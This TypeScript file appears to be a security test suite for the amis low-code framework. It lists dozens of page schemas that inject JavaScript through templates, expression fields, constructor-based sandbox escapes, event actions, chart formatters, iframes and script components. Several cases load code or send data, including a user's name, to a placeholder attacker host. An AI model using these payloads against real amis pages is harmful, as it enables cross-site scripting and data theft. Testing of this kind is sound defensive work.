import {
  type Attack,
  BAIT,
  button,
  chart,
  EVIL,
  FUNCTION,
  HTML,
  inForm,
  JS,
  line,
  onEvent,
  pressed,
  service,
  tpl,
} from './attack';

/** JavaScript in a screen. */
export const programs: Record<string, Attack> = {
  'lodash template': { body: tpl(`<%= (${JS}) %>`) },
  'lodash block': { body: tpl(`<% ${JS} %>x`) },
  visibleOn: { body: { type: 'tpl', tpl: 'x', visibleOn: JS } },
  'hiddenOn through a constructor': {
    body: { type: 'tpl', tpl: 'x', hiddenOn: `this.constructor.constructor("${JS}")()` },
  },
  disabledOn: { body: button({ disabledOn: `data.x || (${JS.replace(';', ',')})` }) },
  classNameExpr: { body: { type: 'container', classNameExpr: `<%= (${JS}) %>`, body: 'x' } },
  'formula through a constructor': { body: tpl('${source.constructor.constructor("window.hacked=1")()}') },
  'formula on a function': {
    body: tpl(`\${ARRAYMAP([1], x => x.constructor.constructor("${JS.replaceAll("'", '`')}")())}`),
  },
  'custom action at the start': {
    body: { type: 'page', body: 'x', onEvent: onEvent('init', { actionType: 'custom', script: JS }) },
  },
  'custom action on a click': pressed({ onEvent: onEvent('click', { actionType: 'custom', script: JS }) }),
  'custom action inside another': pressed({
    onEvent: onEvent('click', { actionType: 'parallel', children: [{ actionType: 'custom', script: JS }] }),
  }),
  onClick: pressed({ onClick: JS }),
  'onError of a picture': { body: { type: 'avatar', src: 'x', onError: JS } },
  'onSelect of tabs': {
    body: {
      type: 'tabs',
      onSelect: JS,
      tabs: [
        { title: 'a', body: 'a' },
        { title: 'b', className: 'second', body: 'b' },
      ],
    },
    click: ['[role=tab] >> nth=1'],
  },
  adaptor: { body: service({ url: 'source:x', adaptor: JS }), data: { x: 1 } },
  requestAdaptor: { body: service({ url: 'source:x', requestAdaptor: JS }), data: { x: 1 } },
  dataProvider: { body: service(undefined, { dataProvider: JS }) },
  'dataProvider by event': { body: service(undefined, { dataProvider: { inited: JS } }) },
  schemaApi: { body: { type: 'service', schemaApi: `js:${EVIL}/schema.js` } },
  'API js:': { body: service(`js:${EVIL}/x.js`) },
  'API jsonp:': { body: service(`jsonp:${EVIL}/x`) },
  'API of another host': { body: service(`get:${EVIL}/x?name=\${user.name}`) },
  'API of this host': { body: service('get:/health') },
  'web socket': { body: service(undefined, { ws: 'wss://evil.test/x' }) },
  'chart: functions as texts': {
    shows: 'canvas',
    body: chart({ ...line, yAxis: { axisLabel: { formatter: FUNCTION } } }),
  },
  'chart: program as config': { body: chart(`(${FUNCTION})()`) },
  'chart: dataFilter': { shows: 'canvas', body: chart(line, { dataFilter: JS }) },
  'custom type': { body: { type: 'custom', html: HTML, onMount: JS, onUpdate: JS } },
  'iframe type': { body: { type: 'iframe', src: `javascript:${JS}` } },
  'iframe of another host': { body: { type: 'iframe', src: `${EVIL}/frame` } },
  'editor type': { body: inForm({ type: 'editor', name: 'a', editorDidMount: JS }) },
  'rich text type': { body: inForm({ type: 'input-rich-text', name: 'a', value: HTML, receiver: `${EVIL}/up` }) },
  'web-component type': { body: { type: 'web-component', tag: 'script', props: { src: `${EVIL}/w.js` } } },
  'formula type': { body: inForm({ type: 'formula', name: 'a', formula: JS, autoSet: true }) },
  'upload to another host': { body: inForm({ type: 'input-file', name: 'a', receiver: `${EVIL}/up` }) },
  'element of one’s own: script': { body: { component: 'script', src: `${EVIL}/c.js`, children: JS } },
  'element of one’s own: iframe': {
    body: { type: 'tpl', component: 'iframe', srcDoc: `<script>parent.hacked=1</script>` },
  },
  'element of one’s own: div with HTML': {
    body: { component: 'div', dangerouslySetInnerHTML: { __html: HTML } },
    click: BAIT,
  },
  wrapperComponent: { body: { type: 'container', wrapperComponent: 'script', bodyClassName: 'x', body: JS } },
  definitions: {
    body: {
      type: 'page',
      definitions: { evil: { type: 'tpl', component: 'iframe', src: `${EVIL}/d` } },
      body: { $ref: 'evil' },
    },
  },
  'amis inside amis': { body: { type: 'amis', value: { type: 'custom', onMount: JS } } },
  'language overwrite': {
    body: {
      type: 'tpl',
      tpl: 'x',
      'zh-CN': { component: 'iframe', src: `${EVIL}/l` },
      mobile: { component: 'iframe' },
    },
  },
};
